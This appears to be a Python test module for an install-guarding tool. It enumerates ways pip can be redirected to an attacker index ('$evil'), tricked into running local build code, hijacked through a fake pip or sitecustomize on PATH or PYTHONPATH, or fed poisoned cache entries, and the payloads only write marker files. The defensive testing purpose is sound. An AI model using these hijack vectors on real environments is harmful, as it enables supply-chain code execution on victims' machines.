"""The doors of pip."""

from __future__ import annotations

from typing import Final, Unpack

from tests.e2e.doors.door import Bare, Door, Ends, Kind, Poison, Row, Tool, shown

_INSTALL: Final = "pip install frob"
_BY_FILE: Final = "frob @ file://$wheel\n"
_FILES: Final = {"PIP_CONFIG_FILE": "", "PIP_INDEX_URL": ""}
"""Variables under which pip's own files say which index there is."""

_BUILT: Final = """\
[build-system]
requires = ["absent"]
build-backend = "back"
backend-path = ["."]
"""
"""What is built only where nobody asks for its requirements."""

_PROGRAM: Final = "#!/bin/sh\necho ran > '$marker'\n"
_MODULE: Final = "import pathlib; pathlib.Path('$marker').write_text('ran')\n"


def _door(name: str, kind: Kind, command: str = _INSTALL, **row: Unpack[Row]) -> Door:
    row["files"] = {"more.txt": _BY_FILE, **row.get("files", {})}
    return Door(name=name, kind=kind, tool=Tool.PIP, command=command, **row)


def _variable(name: str, value: str, command: str = _INSTALL, **row: Unpack[Row]) -> Door:
    row["environ"] = {name.partition(" ")[0]: value, **row.get("environ", {})}
    return _door(name, Kind.ENVIRONMENT, command, **row)


def _configured(
    name: str, path: str, text: str, command: str = _INSTALL, **row: Unpack[Row]
) -> Door:
    row["environ"] = {**_FILES, **row.get("environ", {})}
    row["files"] = {path: text}
    return _door(name, Kind.FILE, command, **row)


def _argument(words: str, **row: Unpack[Row]) -> Door:
    return _door(shown(words), Kind.ARGUMENT, words, **row)


def _place(words: str, **row: Unpack[Row]) -> Door:
    return _door(shown(words), Kind.PLACE, words, **row)


def _line(text: str, **row: Unpack[Row]) -> Door:
    row["files"] = {"work/requirements.txt": text, "work/more.txt": _BY_FILE}
    return _door(shown(text), Kind.LINE, "pip install -r requirements.txt", **row)


_VARIABLES: Final = (
    _variable("PIP_INDEX_URL", "$evil", asks=True),
    _variable("PIP_EXTRA_INDEX_URL", "$evil", asks=True),
    _variable("PIP_FIND_LINKS", "$wheels", ends=Ends.PASSED_OVER),
    _variable("PIP_NO_INDEX", "1", environ={"PIP_FIND_LINKS": "$wheels"}),
    _variable(
        "PIP_CONFIG_FILE",
        "$folder/pip.conf",
        files={"pip.conf": "[global]\nindex-url = $evil\n"},
        asks=True,
        environ={"PIP_INDEX_URL": ""},
    ),
    _variable(
        "PIP_CONSTRAINT",
        "$folder/more.txt",
    ),
    _variable(
        "PIP_REQUIREMENT",
        "$folder/more.txt",
        command="pip install near",
    ),
    _variable(
        "PIP_TRUSTED_HOST",
        "127.0.0.1:$port",
        environ={"PIP_EXTRA_INDEX_URL": "$evil"},
        tls=True,
        asks=True,
        ends=Ends.UNDECIDED,
    ),
    _variable("PIP_NO_BINARY", "frob", bare=Bare.RUNS, ends=Ends.REFUSED),
    _variable(
        "PIP_NO_BUILD_ISOLATION",
        "0",
        "pip install $folder/source",
        files={"source/pyproject.toml": _BUILT, "source/back.py": _MODULE},
        bare=Bare.RUNS,
        ends=Ends.REFUSED,
    ),
    _variable(
        "PIP_PROXY",
        "$origin",
        asks=True,
        environ={"NO_PROXY": "", "HTTPS_PROXY": "", "ALL_PROXY": ""},
    ),
    _variable("HTTP_PROXY", "$origin", asks=True, environ={"NO_PROXY": ""}),
    _variable("ALL_PROXY", "$origin", asks=True, environ={"NO_PROXY": ""}),
    _variable(
        "PIP_EDITABLE",
        "$tree",
        bare=Bare.RUNS,
    ),
    _variable(
        "PIP_PYTHON",
        "$folder/fake/python",
        files={"fake/python": _PROGRAM},
        bare=Bare.RUNS,
        ends=Ends.REFUSED,
    ),
    _variable(
        "PYTHONPATH with a pip",
        "$folder/fake",
        command="python -m pip install frob",
        files={"fake/pip/__init__.py": "", "fake/pip/__main__.py": _MODULE},
        bare=Bare.RUNS,
        ends=Ends.IGNORED,
    ),
    _variable(
        "PYTHONPATH with a sitecustomize",
        "$folder/fake",
        files={"fake/sitecustomize.py": _MODULE},
        bare=Bare.RUNS,
        ends=Ends.IGNORED,
    ),
)

_CONFIGURATION: Final = (
    _configured(
        "index-url of the user",
        "home/config/pip/pip.conf",
        "[global]\nindex-url = $evil\n",
        asks=True,
    ),
    _configured(
        "index-url in the legacy ~/.pip",
        "home/.pip/pip.conf",
        "[global]\nindex-url = $evil\n",
        asks=True,
    ),
    _configured(
        "extra-index-url of the environment",
        "target/pip.conf",
        "[global]\nindex-url = $index\nextra-index-url = $evil\n",
        asks=True,
    ),
    _configured(
        "index-url of all users",
        "home/xdg/pip/pip.conf",
        "[install]\nindex-url = $evil\n",
        asks=True,
    ),
    _configured(
        "find-links",
        "home/config/pip/pip.conf",
        "[install]\nfind-links = $wheels\n",
        ends=Ends.PASSED_OVER,
        environ={"PIP_INDEX_URL": "$index"},
    ),
    _configured(
        "constraint",
        "home/config/pip/pip.conf",
        "[install]\nconstraint = $folder/more.txt\n",
        environ={"PIP_INDEX_URL": "$index"},
    ),
    _configured(
        "requirement",
        "home/config/pip/pip.conf",
        "[install]\nrequirement = $folder/more.txt\n",
        command="pip install near",
        environ={"PIP_INDEX_URL": "$index"},
    ),
    _configured(
        "editable",
        "home/config/pip/pip.conf",
        "[install]\neditable = $tree\n",
        environ={"PIP_INDEX_URL": "$index"},
        bare=Bare.RUNS,
    ),
    _configured(
        "no-binary",
        "home/config/pip/pip.conf",
        "[install]\nno-binary = frob\n",
        ends=Ends.REFUSED,
        environ={"PIP_INDEX_URL": "$index"},
        bare=Bare.RUNS,
    ),
    _configured(
        "proxy",
        "home/config/pip/pip.conf",
        "[global]\nproxy = $origin\n",
        asks=True,
        environ={"PIP_INDEX_URL": "$index", "NO_PROXY": "", "HTTPS_PROXY": "", "ALL_PROXY": ""},
    ),
)

_ARGUMENTS: Final = (
    _argument("pip install -i $evil frob", asks=True),
    _argument("pip install -qi$evil frob", asks=True),
    _argument("pip install --extra-index-url $evil frob", asks=True),
    _argument("pip install --extra-ind $evil frob", asks=True),
    _argument("pip install -f $wheels frob", ends=Ends.PASSED_OVER),
    _argument("pip install --no-index -f $wheels frob"),
    _argument("pip install -c $folder/more.txt frob"),
    _argument("pip install -r $folder/more.txt"),
    _argument("pip install -r $origin/requirements.txt", ends=Ends.REFUSED),
    _argument("pip install -c $origin/requirements.txt frob", ends=Ends.REFUSED),
    _argument("pip install --proxy $origin frob", bare=Bare.ASKS, ends=Ends.REFUSED),
    _argument("pip --proxy $origin install frob", bare=Bare.ASKS, ends=Ends.REFUSED),
    _argument("pip install --no-binary frob frob", bare=Bare.RUNS, ends=Ends.REFUSED),
    _argument("pip install --no-build-isolation knob", bare=Bare.RUNS, ends=Ends.REFUSED),
    _argument("pip install --config-settings=a=b knob", bare=Bare.RUNS, ends=Ends.REFUSED),
    _argument(
        "pip install --group $folder/pyproject.toml:dev",
        bare=Bare.INSTALLS,
        ends=Ends.REFUSED,
        pip=">=25.1",
        files={"pyproject.toml": '[dependency-groups]\ndev = ["frob @ file://$wheel"]\n'},
    ),
    _argument(
        "pip install --requirements-from-script $folder/script.py",
        ends=Ends.REFUSED,
        pip=">=26.0",
        files={"script.py": '# /// script\n# dependencies = ["frob @ file://$wheel"]\n# ///\n'},
    ),
    _argument("pip download knob", bare=Bare.RUNS),
    _argument("pip wheel knob", bare=Bare.RUNS),
    _argument("pip lock knob", bare=Bare.RUNS, pip=">=25.1"),
    _argument("python -m pip install -i $evil frob", asks=True),
)

_PLACES: Final = (
    _place("pip install $url"),
    _place("pip install 'frob @ $url'"),
    _place("pip install $wheel"),
    _place("pip install 'frob @ file://$wheel'"),
    _place("pip install $sdist", bare=Bare.RUNS),
    _place("pip install $tree", bare=Bare.RUNS),
    _place("pip install -e $tree", bare=Bare.RUNS),
    _place("pip install git+$origin/frob.git", bare=Bare.ASKS),
)

_LINES: Final = (
    _line("-i $evil\nfrob\n", asks=True),
    _line("--extra-index-url $evil\nfrob\n", asks=True),
    _line("--index-url $${EVIL}\nfrob\n", asks=True, environ={"EVIL": "$evil"}),
    _line("--extra-index-url \\\n  $evil\nfrob\n", asks=True),
    _line("-f ../wheels\nfrob\n", ends=Ends.PASSED_OVER),
    _line("--no-index\n--find-links ../wheels\nfrob\n"),
    _line("-r more.txt\n"),
    _line("-c more.txt\nfrob\n"),
    _line("-r $origin/requirements.txt\n", ends=Ends.REFUSED),
    _line("$url\n"),
    _line("../wheels/frob-9.0-py3-none-any.whl\n"),
    _line("-e $tree\n", bare=Bare.RUNS),
    _line("--no-binary frob\nfrob\n", bare=Bare.RUNS, ends=Ends.REFUSED),
)

_OTHERS: Final = (
    Door(
        name="a dependency by URL, of a wheel on the index",
        kind=Kind.METADATA,
        tool=Tool.PIP,
        command="pip install far",
        asks=True,
    ),
    Door(
        name="a source distribution, and nothing else",
        kind=Kind.METADATA,
        tool=Tool.PIP,
        command="pip install knob",
        bare=Bare.RUNS,
    ),
    Door(
        name=Poison.PIP_RESPONSE.value,
        kind=Kind.CACHE,
        tool=Tool.PIP,
        command=_INSTALL,
        environ={"PIP_TRUSTED_HOST": "127.0.0.1"},  # pip keeps no answers of other hosts over HTTP
        poison=Poison.PIP_RESPONSE,
    ),
    Door(
        name=Poison.PIP_WHEEL.value,
        kind=Kind.CACHE,
        tool=Tool.PIP,
        command="pip install knob",
        poison=Poison.PIP_WHEEL,
    ),
    Door(
        name="a pip in the current folder",
        kind=Kind.PATH,
        tool=Tool.PIP,
        command=_INSTALL,
        environ={"PATH": ".:$target/bin:/usr/bin:/bin"},
        files={"work/pip": _PROGRAM},
        bare=Bare.RUNS,
        ends=Ends.REFUSED,
    ),
    Door(
        name="a pip in an empty entry",
        kind=Kind.PATH,
        tool=Tool.PIP,
        command=_INSTALL,
        environ={"PATH": ":$target/bin:/usr/bin:/bin"},
        files={"work/pip": _PROGRAM},
        bare=Bare.RUNS,
        ends=Ends.REFUSED,
    ),
    Door(
        name="a pip that is another program",
        kind=Kind.PATH,
        tool=Tool.PIP,
        command=_INSTALL,
        environ={"PATH": "$folder/fake:$target/bin:/usr/bin:/bin"},
        files={"fake/pip": _PROGRAM},
        bare=Bare.RUNS,
        ends=Ends.REFUSED,
    ),
)

DOORS: Final = (*_VARIABLES, *_CONFIGURATION, *_ARGUMENTS, *_PLACES, *_LINES, *_OTHERS)
